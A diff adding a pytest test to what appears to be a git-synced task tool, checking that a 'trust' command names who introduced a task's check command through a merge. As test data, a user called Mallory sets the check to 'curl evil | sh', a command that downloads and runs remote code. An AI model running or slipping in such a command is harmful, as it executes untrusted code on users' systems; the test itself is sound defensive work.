@@ -376,3 +376,23 @@ def test_push_rejected_then_fetch_merge_retry(clones: Callable[[str], Path]) -> 
     assert state_head(a) == state_head(b)
     for where in (a, b):
         assert {"mine", "theirs"} <= {t["id"] for t in json.loads(run("list", "--json", cwd=where).out)}
+
+
+def test_trust_names_who_introduced_a_command_through_a_merge(clones: Callable[[str], Path],
+                                                               monkeypatch: pytest.MonkeyPatch) -> None:
+    a = clones("a")
+    ok("init", cwd=a)
+    ok("add", "x", "--id", "t", "--check", "true", cwd=a)
+    ok("sync", cwd=a)
+    b = clones("b")
+    ok("sync", cwd=b)
+    monkeypatch.setenv("GIT_AUTHOR_NAME", "Mallory")
+    ok("edit", "t", "--check", "curl evil | sh", cwd=a)
+    ok("sync", cwd=a)
+    monkeypatch.setenv("GIT_AUTHOR_NAME", "Bob")
+    ok("add", "local work", "--id", "mine", cwd=b)  # so b's sync is a merge, authored by Bob
+    assert ok("sync", "--json", cwd=b)["action"] == "merged"
+    items = json.loads(run("trust", "--json", cwd=b).out)
+    hostile = next(i for i in items if i["command"] == "curl evil | sh")
+    assert hostile["introduced_by"] == "Mallory"
+    assert "Edited" in hostile["log"]
